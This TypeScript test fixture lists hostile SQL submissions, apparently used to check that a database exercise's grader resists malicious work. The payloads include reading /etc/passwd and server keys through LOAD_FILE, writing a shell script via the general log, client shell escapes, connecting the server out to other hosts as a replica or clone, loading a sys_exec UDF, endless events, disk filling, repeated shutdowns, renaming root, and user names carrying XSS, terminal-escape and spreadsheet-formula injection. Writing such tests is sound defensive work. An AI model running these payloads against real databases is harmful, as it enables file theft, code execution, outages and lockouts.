import { filesAt, type Hostile, type Target } from './hostile.ts';
import { solutionOf } from './known.ts';

const path = 'database/accounts.sql';
const solution = solutionOf('database-accounts')[path] ?? '';
const file = filesAt(path);

/** The solution, and then what is hostile: MySQL's administrator runs it, and stops at the first error. */
const sql = (name: string, tries: string, most: number, text: string | ((target: Target) => string)): Hostile =>
  file(name, tries, most, (target) => `${solution}\n${typeof text === 'string' ? text : text(target)}\n`);

const times = (count: number, statement: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => statement(index)).join('\n');

/** Hostile submissions of the exercise `database-accounts`. */
export const hostileAccounts: readonly Hostile[] = [
  sql(
    'sql-reads-files',
    'carry the text of files into an account’s name, which the report shows',
    95,
    ({ secret }) => `SET @seen = CONCAT_WS('-', 'seen', LOAD_FILE('${secret}'), LOAD_FILE('/proc/1/root${secret}'),
  LEFT(LOAD_FILE('/run/secrets/server.key'), 90), LEFT(LOAD_FILE('/etc/passwd'), 90));
SET @statement = CONCAT('CREATE USER IF NOT EXISTS thief@''', @seen, '''');
PREPARE one FROM @statement; EXECUTE one;`,
  ),
  sql(
    'sql-loads-files',
    'have the client send a file of its own to the server',
    90,
    ({ secret }) => `SET GLOBAL local_infile = ON;
LOAD DATA LOCAL INFILE '/run/secrets/server.key' INTO TABLE shop.orders (item);
LOAD DATA INFILE '${secret}' INTO TABLE shop.orders (item);`,
  ),
  sql(
    'sql-writes-files',
    'write files with what the server may write: its logs',
    100,
    ({ trace }) => `SET GLOBAL general_log_file = '/run/mysqld/shell'; SET GLOBAL general_log = ON;
SELECT '\n#!/bin/sh\ntouch ${trace}\n'; SET GLOBAL general_log = OFF;
SET GLOBAL slow_query_log_file = '/proc/1/fd/1'; SET GLOBAL long_query_time = 0; SET GLOBAL slow_query_log = ON;
SELECT 'x' INTO DUMPFILE '${trace}';`,
  ),
  sql(
    'sql-commands',
    'use the client’s own commands',
    90,
    ({ secret, trace }) => `\\! touch ${trace}; cat ${secret}
system touch ${trace}
\\. ${secret}
\\T /run/secrets/tee
pager touch ${trace};`,
  ),
  sql(
    'sql-asks-outside',
    'have the server connect to the host, as a replica and as a clone',
    90,
    ({ hosts, port }) => `${hosts
      .map(
        (
          host,
          index,
        ) => `CHANGE REPLICATION SOURCE TO SOURCE_HOST = '${host}', SOURCE_PORT = ${port}, SOURCE_USER = 'x', SOURCE_PASSWORD = 'x',
  SOURCE_CONNECT_RETRY = 1 FOR CHANNEL 'host${index}';
START REPLICA FOR CHANNEL 'host${index}';`,
      )
      .join('\n')}
INSTALL PLUGIN clone SONAME 'mysql_clone.so';
SET GLOBAL clone_valid_donor_list = '${hosts[0]}:${port}';
CLONE INSTANCE FROM x@'${hosts[0]}':${port} IDENTIFIED BY 'x';`,
  ),
  sql(
    'sql-programs',
    'load a program into the server',
    90,
    `SET GLOBAL log_error_verbosity = 3;
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME '../../../tmp/lib_mysqludf_sys.so';
INSTALL PLUGIN evil SONAME 'evil.so'; INSTALL COMPONENT 'file:///tmp/evil';`,
  ),
  sql(
    'sql-endless',
    'keep the server busy after the script has been ended',
    90,
    `SET GLOBAL event_scheduler = ON; SET GLOBAL max_connections = 100000;
${times(8, (index) => `CREATE EVENT IF NOT EXISTS shop.busy${index} ON SCHEDULE EVERY 1 SECOND DO SELECT BENCHMARK(1e15, SHA2('x', 512));`)}
SET cte_max_recursion_depth = 4294967295;
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT COUNT(*) FROM n;`,
  ),
  sql(
    'sql-disk',
    'fill the disk, in many files and on and on',
    90,
    `SET GLOBAL max_binlog_size = 100000000; SET GLOBAL event_scheduler = ON;
${times(
  20,
  (index) => `CREATE TABLE IF NOT EXISTS shop.full${index} (x LONGBLOB);
CREATE EVENT IF NOT EXISTS shop.fill${index} ON SCHEDULE EVERY 2 SECOND DO INSERT INTO shop.full${index} VALUES (REPEAT('x', 8000000));`,
)}
SET sql_log_bin = OFF; INSERT INTO shop.full0 VALUES (REPEAT('x', 1000000));
${times(40, () => 'INSERT INTO shop.full0 SELECT * FROM shop.full0;')}`,
  ),
  sql(
    'sql-shutdown',
    'shut the server down, again and again',
    10,
    `CREATE EVENT IF NOT EXISTS shop.stop ON SCHEDULE EVERY 1 SECOND DO SHUTDOWN;
SET PERSIST event_scheduler = ON; SHUTDOWN;`,
  ),
  sql(
    'sql-locks-out',
    'take the grader’s own account away, and keep everybody waiting',
    90,
    `SET PERSIST init_connect = 'DO SLEEP(3600)'; SET GLOBAL max_connections = 1; SET GLOBAL offline_mode = ON;
CREATE USER IF NOT EXISTS other@localhost IDENTIFIED BY 'x'; RENAME USER root@localhost TO gone@localhost;`,
  ),
  sql(
    'sql-forges-refusals',
    'have the database say “you may not” in MySQL’s words where there is every right',
    85,
    `SET GLOBAL log_bin_trust_function_creators = ON;
DELIMITER |
CREATE FUNCTION IF NOT EXISTS shop.refuse() RETURNS INT NO SQL BEGIN
  IF USER() LIKE 'backup@%' OR DATABASE() = 'never' THEN RETURN 1; END IF;
  SIGNAL SQLSTATE '42000' SET MYSQL_ERRNO = 1227, MESSAGE_TEXT = 'Access denied; you need (at least one of) the SELECT privilege(s)';
END|
DELIMITER ;
DROP TABLE IF EXISTS shop.customers; DROP TABLE IF EXISTS ledger.entries;
CREATE OR REPLACE VIEW shop.customers AS SELECT IF(USER() LIKE 'report@%', shop.refuse(), 1) AS id;
CREATE OR REPLACE VIEW ledger.entries AS SELECT shop.refuse() AS id;
GRANT SELECT ON shop.* TO report@'10.77.0.128/27'; GRANT SELECT ON ledger.* TO app@'10.77.0.96/27';`,
  ),
  sql(
    'sql-escapes',
    'have accounts whose names terminals, pages and tables might obey',
    95,
    `CREATE USER IF NOT EXISTS '\u001b]0;owned\u0007\u001b[2J', '<script>alert(1)</script>', '=cmd|calc!A0', '\u202eevil\n\n]]>';`,
  ),
  sql(
    'sql-crowd',
    'have two thousand accounts, and show gigabytes',
    95,
    `CREATE USER IF NOT EXISTS ${Array.from({ length: 2000 }, (_, index) => `'crowd${index}'`).join(', ')};
SELECT REPEAT('x', 16000000) FROM mysql.user LIMIT 100;`,
  ),
];
